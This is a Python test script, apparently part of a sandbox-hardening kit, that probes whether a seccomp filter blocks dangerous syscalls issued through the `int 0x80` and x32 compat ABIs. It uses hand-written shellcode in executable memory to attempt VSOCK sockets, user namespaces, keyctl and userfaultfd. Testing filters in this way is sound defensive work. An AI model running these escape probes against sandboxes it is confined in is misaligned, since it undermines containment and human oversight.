# attack: the denied calls through the other system-call ABIs of x86_64: `int 0x80` (i386 numbers) and x32 (nr | 0x40000000)
# breach: keyctl / VSOCK socket / unshare(CLONE_NEWUSER) / socketcall / userfaultfd / personality succeed through a compat ABI
# expect: EPERM (the filter has the X86 and X32 arches with the same rules) or ENOSYS / a dead child where the ABI is compiled out
# run: python3 02-compat-abi.py   (or paste into a notebook cell); prints one line `KITATTACK {json}`

import os, sys, json, errno, time, ctypes, signal, socket, struct, stat, re, resource, select, glob, warnings
warnings.filterwarnings("ignore")
_T0 = time.monotonic()
R, B = {}, []
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def _en(e):
    if isinstance(e, OSError) and e.errno:
        return "absent" if e.errno == errno.ENOENT else errno.errorcode.get(e.errno, "E%d" % e.errno)
    return type(e).__name__


def sysc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def probe(name, fn):
    """fn() -> value, or (harmed, value); records 'ok' / the value / the errno name."""
    try:
        out = fn()
    except KeyboardInterrupt:
        R[name] = "interrupted"
        return None
    except BaseException as e:  # noqa: BLE001
        R[name] = _en(e)
        return None
    harmed = False
    if isinstance(out, tuple) and len(out) == 2 and isinstance(out[0], bool):
        harmed, out = out
    R[name] = "ok" if out is None else (out if isinstance(out, (int, float, bool)) else str(out)[:300])
    if harmed:
        B.append(name)
    return out


def left(total=8.5):
    return total - (time.monotonic() - _T0)


def in_child(fn, timeout=2.0):
    """fn() in a forked child; its result as a string ('!ENAME' if it raised, 'died:<status>' if it died)."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            try:
                out = str(fn())
            except BaseException as e:  # noqa: BLE001
                out = "!" + _en(e)
            os.write(w, out.encode()[:4000])
        finally:
            os._exit(0)
    os.close(w)
    data, end = b"", time.monotonic() + timeout
    while time.monotonic() < end:
        rd, _, _ = select.select([r], [], [], max(0.0, end - time.monotonic()))
        if not rd:
            break
        chunk = os.read(r, 4096)
        if not chunk:
            break
        data += chunk
    os.close(r)
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
    status = 0
    try:
        status = os.waitpid(pid, 0)[1]
    except OSError:
        pass
    return data.decode(errors="replace") if data else "died:%d" % status


def child_probe(name, fn, timeout=2.0):
    """probe() of fn run in a child: 'ok...' results are breaches, '!E..' errors."""
    out = in_child(fn, timeout)
    if out.startswith("!"):
        R[name] = out[1:]
    elif out.startswith("died:"):
        R[name] = out
    else:
        R[name] = out[:300]
        if out.startswith("ok"):
            B.append(name)
    return out


def finish(attack):
    print("KITATTACK " + json.dumps({"attack": attack, "results": R, "breached": B}, default=str), flush=True)


import mmap

X32 = 0x40000000
CODE = bytes.fromhex(
    "53" "55" "4889f8" "4889f3" "4989d2" "4889ca" "4c89d1" "4c89c6" "4c89cf" "cd80" "5d" "5b" "c3"
)  # push rbx; push rbp; rax=nr; ebx=a1; ecx=a2; edx=a3; esi=a4; edi=a5; int 0x80; pop; pop; ret
_keep = []


def int80():
    m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    m.write(CODE)
    _keep.append(m)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
    return ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 6)(addr)


def low_mem():
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    p = libc.mmap(None, 4096, 3, 0x02 | 0x20 | 0x40, -1, 0)  # MAP_PRIVATE|MAP_ANONYMOUS|MAP_32BIT
    return p


def r32(v):
    v &= 0xFFFFFFFF
    return v - (1 << 32) if v & 0x80000000 else v


def call80(nr, *a):
    f = int80()
    a = list(a) + [0] * (5 - len(a))
    r = r32(f(nr, *a))
    if r < 0 and r > -4096:
        return "!" + errno.errorcode.get(-r, str(-r))
    return "ok %d" % r


def main():
    child_probe("int80_socket_vsock", lambda: call80(359, 40, 1, 0))
    child_probe("int80_keyctl_user_keyring", lambda: call80(288, 0, 0xFFFFFFFC, 0))  # KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING
    child_probe("int80_unshare_newuser", lambda: call80(310, 0x10000000))
    child_probe("int80_personality_addr_no_randomize", lambda: call80(136, 0x0040000))
    child_probe("int80_userfaultfd", lambda: call80(374, 0))

    def socketcall():
        p = low_mem()
        ctypes.memmove(p, struct.pack("<III", 40, 1, 0), 12)
        return call80(102, 1, p)  # SYS_SOCKET

    child_probe("int80_socketcall_vsock", socketcall)

    def x32(nr, *a):
        def f():
            try:
                return "ok %d" % sysc(X32 | nr, *a)
            except OSError as e:
                return "!" + _en(e)
        return f

    child_probe("x32_socket_vsock", x32(41, 40, 1, 0))
    child_probe("x32_keyctl_user_keyring", x32(250, 0, -4, 0))
    child_probe("x32_unshare_newuser", x32(272, 0x10000000))
    child_probe("x32_userfaultfd", x32(323, 0))


try:
    main()
except BaseException as _e:  # noqa: BLE001 - never raise out of the cell
    R["_crash"] = _en(_e)
finish('02-compat-abi')
